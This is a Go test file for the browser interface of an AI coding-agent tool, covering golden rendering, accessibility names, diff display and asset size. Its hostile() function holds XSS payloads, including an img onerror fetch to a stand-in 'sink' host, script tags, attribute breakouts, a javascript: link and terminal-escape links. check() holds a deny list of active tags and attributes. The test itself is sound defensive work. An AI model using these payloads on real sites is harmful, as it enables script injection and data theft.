package web_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/a-h/templ"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/coderrr/coderrr/internal/ask"
	"github.com/coderrr/coderrr/internal/diff"
	"github.com/coderrr/coderrr/internal/event"
	"github.com/coderrr/coderrr/internal/markdown"
	"github.com/coderrr/coderrr/internal/view"
	"github.com/coderrr/coderrr/web"
)

var update = flag.Bool("update", false, "write the golden files")

// page folds events into what a page shows.
func page(running bool, payloads ...event.Payload) web.Page {
	s := &view.State{}
	at := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	for i, p := range payloads {
		s.Apply(event.Event{Seq: int64(i + 1), Time: at.Add(time.Duration(i) * time.Second), Data: p})
	}
	return web.Page{
		State: s, Session: s.Header.Session, Running: running, MD: &markdown.Renderer{},
		Info:     web.Info{Project: "sample", Workspace: "/ws/sample", Provider: "fake", Model: "fake-1", Tier: "confined", Summary: "own namespaces"},
		Sessions: []web.Session{{ID: "s1", Title: "Add a limit", Started: at, Running: running}, {ID: "s0", Title: "Old", Started: at, Status: "ok"}},
	}
}

func detail(v any) json.RawMessage {
	raw, err := json.Marshal(v)
	if err != nil {
		panic(err) // test data
	}
	return raw
}

func planning() []event.Payload {
	return []event.Payload{
		event.SessionStarted{SessionID: "s1", Model: "m", Request: "Add a limit"},
		event.PhaseChanged{Phase: event.Planning},
		event.TextDone{Text: "I **read** first."},
		event.ToolStarted{ID: "c1", Name: "read_file", Class: "read", Input: json.RawMessage(`{"path":"a.go"}`)},
		event.ToolFinished{ID: "c1", Name: "read_file", OK: true, Display: "a.go, 3 lines", Content: "1 package a"},
		event.PlanReady{
			Spec: "001-limit", Hash: "h1", Title: "Limit", Size: "full",
			Tasks:     []event.PlanTask{{ID: "T001", Title: "Write it", Files: []string{"a.go"}}},
			Documents: map[string]string{"requirements": "# R\n\n- one\n- two\n", "design": "# D\n", "tasks": "# Tasks: Limit\n"},
		},
		event.PhaseChanged{Phase: event.Awaiting},
		event.AskOpened{ID: "p1", Kind: ask.Plan, Hash: "h1", Prompt: "Approve?", Choices: []ask.Choice{{ID: "approve"}, {ID: "comment"}, {ID: "discard"}}},
	}
}

func writing() []event.Payload {
	hunks := diff.Compute([]byte("package a\n\nvar x = 1\n"), []byte("package a\n\nvar x = 2 \n"))
	return append(planning(),
		event.AskClosed{ID: "p1", Choice: "approve", By: ask.ByBrowser},
		event.PhaseChanged{Phase: event.Execute},
		event.TaskUpdated{ID: "T001", Status: view.InProgress},
		event.AskOpened{
			ID: "w1", Kind: ask.Write, Hash: "h2", Prompt: "Edit a.go?",
			Choices: []ask.Choice{{ID: "apply"}, {ID: "send_back"}, {ID: "accept_all"}},
			Detail:  detail(event.WriteCard{Path: "a.go", Op: "edit", Before: "1", After: "2", Added: 1, Removed: 1, Hunks: hunks, Reason: "each write is reviewed", Task: "T001", Flags: []string{"runs_code"}}),
		})
}

func finished() []event.Payload {
	return append(writing(),
		event.AskClosed{ID: "w1", Choice: "apply", By: ask.ByTerminal},
		event.FileChanged{Path: "a.go", Op: "edit", Before: "1", After: "2", Added: 1, Removed: 1, Diff: "@@ -1,3 +1,3 @@\n package a\n \n-var x = 1\n+var x = 2\n", Task: "T001"},
		event.ToolStarted{ID: "r1", Name: "run_in_sandbox", Class: "system", Input: json.RawMessage(`{"command":"go test"}`)},
		event.ToolOutput{ID: "r1", Stream: "stdout", Text: "\x1b[32mok\x1b[0m a\n"},
		event.ToolFinished{ID: "r1", Name: "run_in_sandbox", OK: true, Display: "exit 0"},
		event.TaskUpdated{ID: "T001", Status: view.Done, Evidence: &event.Evidence{Command: "go test", Tree: "3f2a9c88", Tier: "confined", Call: "r1"}},
		event.SessionFinished{Status: "ok", Summary: "It **works**.", Files: []string{"a.go"}, TasksDone: 1, TasksVerified: 1, TasksTotal: 1},
	)
}

func render(t *testing.T, c templ.Component) string {
	t.Helper()
	var buf bytes.Buffer
	require.NoError(t, c.Render(context.Background(), &buf))
	return buf.String()
}

// TestGolden compares each component with testdata; -update writes it.
func TestGolden(t *testing.T) {
	question := event.AskOpened{ID: "q", Kind: ask.General, Prompt: "Which key?", Choices: []ask.Choice{{ID: "o1", Label: "Address"}, {ID: "text"}}}
	mcp := event.AskOpened{
		ID: "m", Kind: ask.MCPTool, Prompt: "Let linear run get_issue?", Hash: "mh", Choices: []ask.Choice{{ID: "allow_once"}, {ID: "always"}, {ID: "deny"}},
		Detail: detail(event.ToolCard{Card: "linear · get_issue", Arguments: map[string]any{"id": "A<1>"}}),
	}
	read := event.AskOpened{ID: "r", Kind: ask.Read, Prompt: "Read .env?", Choices: []ask.Choice{{ID: "allow_once"}, {ID: "deny"}}, Detail: detail(event.ReadCard{Path: ".env", Reason: "it may hold credentials"})}
	for name, c := range map[string]templ.Component{
		"shell":         web.Shell("/static/0", ""),
		"welcome":       web.App(page(false)),
		"plan":          web.App(page(true, planning()...)),
		"write":         web.App(page(true, writing()...)),
		"done":          web.App(page(false, finished()...)),
		"gate-question": web.Gate(page(true, question)),
		"gate-mcp":      web.Gate(page(true, mcp)),
		"gate-read":     web.Gate(page(true, read)),
		"after":         web.After(page(true, event.SessionStarted{SessionID: "s"}, event.RetryScheduled{InMS: 4000, Attempt: 2, Reason: "overloaded"}, event.ContextChanged{What: "queue", Name: "added", Detail: "and docs"})),
	} {
		t.Run(name, func(t *testing.T) {
			got := pretty(render(t, c))
			file := filepath.Join("testdata", name+".html")
			if *update {
				require.NoError(t, os.WriteFile(file, []byte(got), 0o644))
			}
			want, err := os.ReadFile(file)
			require.NoError(t, err, "run go test ./web -update")
			require.Equal(t, string(want), got)
		})
	}
}

// pretty puts each element on a line of its own, so that a golden diff reads.
func pretty(s string) string {
	return strings.TrimSpace(regexp.MustCompile(`>\s*<`).ReplaceAllString(s, ">\n<")) + "\n"
}

// TestAccessibleNames: what scripts and checks find controls by (CONTRACT).
func TestAccessibleNames(t *testing.T) {
	shell, plan, write, done := render(t, web.Shell("/s", "")), render(t, web.App(page(true, planning()...))), render(t, web.App(page(true, writing()...))), render(t, web.App(page(false, finished()...)))
	for _, tt := range []struct{ where, want string }{
		{shell, `<label class="sr" for="request">Request</label>`},
		{shell, `aria-label="Send"`},
		{shell, `role="switch"`},
		{shell, "Review each write"},
		{shell, `aria-label="Conversation"`},
		{shell, `aria-label="Plan"`},
		{shell, `aria-label="Changes"`},
		{shell, `aria-label="Decision"`},
		{plan, `role="status" aria-label="Run status"`},
		{plan, `aria-label="Stop"`},
		{plan, "Approve and start"},
		{plan, "Send comments"},
		{plan, "Discard plan"},
		{plan, `aria-label="Tasks"`},
		{plan, `aria-label="Sessions"`},
		{plan, "Plan ready"},
		{plan, `aria-label="Edit requirements"`},
		{plan, `aria-label="read_file a.go"`},
		{write, "Apply accepted"},
		{write, "Send back"},
		{write, "Accept all in task"},
		{write, `Accept</span><span class="sr"> hunk 1</span>`},
		{write, `Reject</span><span class="sr"> hunk 1</span>`},
		{write, `Comment</span><span class="sr"> on hunk 1</span>`},
		{write, `aria-label="Diff of a.go"`},
		{write, "runs code outside the sandbox"},
		{write, "Waiting for you"},
		{done, "Undo change"},
		{done, "Undo all"},
		{done, `aria-label="Diff of a.go"`},
		{done, "decided in the terminal"},
	} {
		require.Contains(t, tt.where, tt.want)
	}
}

// hostile is put into every place that text can come from.
func hostile() []string {
	return []string{
		`<img src=x onerror=fetch('//sink')>`, `<script>alert(1)</script>`, `"><button data-act="answer" data-choice="approve">x</button>`, `' onclick='x`,
		`![x](http://sink/?d=1)`, `[a](javascript:alert(1))`, `<p style="position:fixed" data-act=stop>`, "</textarea><script>x</script>", "\x1b]8;;http://sink\x07x\x1b]8;;\x07", "a\u202eb\U000e0041",
	}
}

// everywhere is a session whose every text is x.
func everywhere(x string) []event.Payload {
	hunk := []diff.Hunk{{OldStart: 1, OldLines: 1, NewStart: 1, NewLines: 2, Lines: []diff.Line{{Op: diff.Equal, Text: x, EOL: "\n"}, {Op: diff.Delete, Text: x + "a", EOL: "\r\n"}, {Op: diff.Insert, Text: x + "b"}}}}
	in := detail(map[string]string{"path": x, "command": x})
	return []event.Payload{
		event.SessionStarted{SessionID: x, Model: x, Provider: x, Request: x, Sandbox: event.Sandbox{Tier: x, Summary: x}},
		event.PhaseChanged{Phase: event.Phase(x)},
		event.ContextChanged{What: x, Name: x, Detail: x},
		event.ContextChanged{What: "queue", Detail: x},
		event.TextDone{Text: x},
		event.ThinkingDone{Text: x},
		event.UserMessage{Text: x},
		event.Notice{Level: x, Kind: x, Text: x},
		event.ToolStarted{ID: x, Name: x, Class: x, Input: in},
		event.ToolOutput{ID: x, Text: x},
		event.ToolFinished{ID: x, Name: x, Display: x, Content: x},
		event.PlanReady{
			Spec: x, Hash: x, Title: x, Size: x, Tasks: []event.PlanTask{{ID: x, Title: x, Files: []string{x}, Status: x}}, Documents: map[string]string{"requirements": x, "design": "- " + x, "tasks": "```\n" + x},
		},
		event.PlanReady{Hash: x + "2", Documents: map[string]string{"requirements": x}, Diff: "--- a/" + x + "\n+++ b/" + x + "\n@@ -1 +1 @@\n-" + x + "\n+" + x + "1\n"},
		event.VerifyFinished{Path: x, Verdict: x, Reason: x},
		event.RetryScheduled{Reason: x},
		event.AskOpened{ID: "1", Kind: ask.Write, Prompt: x, Detail: detail(event.WriteCard{Path: x, From: x, Op: x, Hunks: hunk, Files: []string{x}, Flags: []string{x}, Mode: x, Intent: x, Reason: x, Task: x, Verdict: "skipped", Why: x})},
		event.AskClosed{ID: "1", Choice: ask.SendBack, Text: x, By: ask.By(x), Hunks: []ask.HunkDecision{{Comment: x}}},
		event.FileChanged{Path: x, Op: x, From: x, Before: "1", After: "2", Added: 1, Removed: 1, Mode: x, Flags: []string{x}, Task: x, Diff: "@@ -1 +1 @@\n-" + x + "\n+" + x + "1\n"},
		event.TaskUpdated{ID: x, Status: view.Done, Evidence: &event.Evidence{Command: x, Tier: x, Tree: x, Call: x}},
	}
}

// TestXSSCorpus: whatever a text holds, the page has only our elements, our
// actions and no attribute that acts (W10, W12, W13).
func TestXSSCorpus(t *testing.T) {
	acts := map[string]bool{}
	for _, a := range strings.Fields("view doc undo open theme help stop rail goto file layout accept reject comment mode save save-plan plan-comment answer suggest unsay again remove resume keep undo-hunk lines hunks context spaces rename run models") {
		acts[a] = true
	}
	for _, x := range hostile() {
		questions := []event.AskOpened{
			{ID: x, Kind: ask.Write, Hash: x, Prompt: x, Detail: everywhere(x)[15].(event.AskOpened).Detail, Choices: []ask.Choice{{ID: "apply"}, {ID: x, Label: x}}},
			{ID: x, Kind: ask.General, Prompt: x, Choices: []ask.Choice{{ID: x, Label: x}, {ID: "text"}}},
			{ID: x, Kind: ask.MCPTool, Prompt: x, Choices: []ask.Choice{{ID: x, Label: x}}, Detail: detail(event.ToolCard{Card: x, Arguments: map[string]any{x: x}})},
			{ID: x, Kind: ask.Read, Detail: detail(event.ReadCard{Path: x, Reason: x})},
			{ID: x, Kind: ask.Trust, Prompt: x, Detail: detail(x)},
			{ID: x, Kind: ask.Network, Detail: detail(map[string]string{x: x})},
		}
		for _, q := range questions {
			p := page(true, append(everywhere(x), q)...)
			p.Info = web.Info{Project: x, Workspace: x, Branch: x, Model: x, Tier: x, Summary: x, Limits: x, Better: x, Demo: x, Suggestion: x}
			p.Sessions = []web.Session{{ID: x, Title: x, Status: x}}
			check(t, render(t, web.App(p)), x, acts)
			p.State, p.Session = &view.State{}, ""
			check(t, render(t, web.App(p)), x, acts)
		}
		check(t, render(t, web.App(page(false, append(everywhere(x), event.SessionFinished{Status: x, Summary: x})...))), x, acts)
	}
}

func check(t *testing.T, page, x string, acts map[string]bool) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			require.NotContains(t, []string{"script", "img", "iframe", "object", "embed", "style", "form", "base", "meta", "link", "video", "audio"}, tok.Data, "from %q", x)
			require.False(t, tok.Data == "input" && !strings.Contains(tok.String(), `type="search" id="find-session"`), "an input from %q", x)
			for _, a := range tok.Attr {
				require.False(t, strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "srcdoc" || a.Key == "formaction", "attribute %s from %q", a.Key, x)
				switch a.Key {
				case "data-act":
					require.True(t, acts[a.Val], "action %q from %q", a.Val, x)
				case "href":
					require.Regexp(t, `^(#i-[a-z]+|https?://.*)$`, a.Val, "from %q", x)
				}
			}
		}
	}
}

// TestT03HiddenCharacters: each is a mark, and the file says so.
func TestT03HiddenCharacters(t *testing.T) {
	for _, r := range []rune{0x202a, 0x202e, 0x2066, 0x2069, 0x061c, 0x200b, 0xfeff, 0xe0041, 0x2028, 0} {
		h := []diff.Hunk{{NewStart: 1, NewLines: 1, Lines: []diff.Line{{Op: diff.Insert, Text: "a" + string(r) + "b", EOL: "\n"}}}}
		out := render(t, web.Gate(page(true)))
		require.NotContains(t, out, string(r)+"b")
		out = render(t, web.App(page(true, event.AskOpened{ID: "w", Kind: ask.Write, Detail: detail(event.WriteCard{Path: "x", Hunks: h})})))
		require.Contains(t, out, fmt.Sprintf(`<b class="hid">⟨U+%04X⟩</b>`, r))
		require.Contains(t, out, "hidden characters (1)")
		require.NotContains(t, out, "a"+string(r)+"b")
	}
}

// TestT06BytesThatDoNotShow: line ends, a missing last one, blanks at the end.
func TestT06BytesThatDoNotShow(t *testing.T) {
	before, after := "a\nb\nc", "a\r\nb \nc\n"
	card := event.WriteCard{Path: "x", Hunks: diff.Compute([]byte(before), []byte(after))}
	out := render(t, web.App(page(true, event.AskOpened{ID: "w", Kind: ask.Write, Detail: detail(card)})))
	require.Contains(t, out, "␍␊")
	require.Contains(t, out, "no newline at end of file")
	require.Contains(t, out, `class="ws"`)
}

// TestT07LargeDiffs: what is not there yet is counted and can be asked for, and
// counts are exact.
func TestT07LargeDiffs(t *testing.T) {
	var lines strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&lines, "line %d\n", i)
	}
	card := event.WriteCard{Path: "big", Op: "create", Added: 5000, Hunks: diff.Compute(nil, []byte(lines.String())), Files: []string{"p1", "p2"}}
	out := render(t, web.App(page(true, event.AskOpened{ID: "w", Kind: ask.Write, Detail: detail(card)})))
	require.True(t, strings.Contains(out, "Show 200 of 4600 more lines"), "Show 200 of 4600 more lines")
	require.True(t, strings.Contains(out, "line 399<"), "line 399")
	require.False(t, strings.Contains(out, "line 400<"), "line 400")
	require.True(t, strings.Contains(out, "+5000"), "+5000")
	require.True(t, strings.Contains(out, "2 files are deleted"), "2 files are deleted")
	long := event.WriteCard{Path: "long", Hunks: diff.Compute(nil, []byte(strings.Repeat("é", 500_000)))}
	out = render(t, web.App(page(true, event.AskOpened{ID: "w", Kind: ask.Write, Detail: detail(long)})))
	require.True(t, strings.Contains(out, "499000 more characters on this line"), "499000 more characters on this line")
}

// TestAssetsAreSmall: the whole page is under 150 KB compressed, and every font
// comes with its licence.
func TestAssetsAreSmall(t *testing.T) {
	a, err := web.Load()
	require.NoError(t, err)
	total := len(render(t, web.Shell("/s", "")))
	for name, f := range a.Files {
		if strings.HasSuffix(name, ".txt") {
			continue
		}
		if strings.HasSuffix(name, ".woff2") {
			require.Contains(t, a.Files, strings.TrimSuffix(name, ".woff2")+".LICENSE.txt")
		}
		var buf bytes.Buffer
		zw := gzip.NewWriter(&buf)
		_, err := zw.Write(f.Data)
		require.NoError(t, err)
		require.NoError(t, zw.Close())
		total += buf.Len()
	}
	require.Less(t, total, 150_000)
	for _, name := range []string{"app.css", "app.js", "net.js", "theme.js"} {
		require.NotRegexp(t, `(https?:)?//[a-z0-9.-]+\.[a-z]{2,}`, string(a.Files[name].Data), "no other host in %s", name)
	}
}
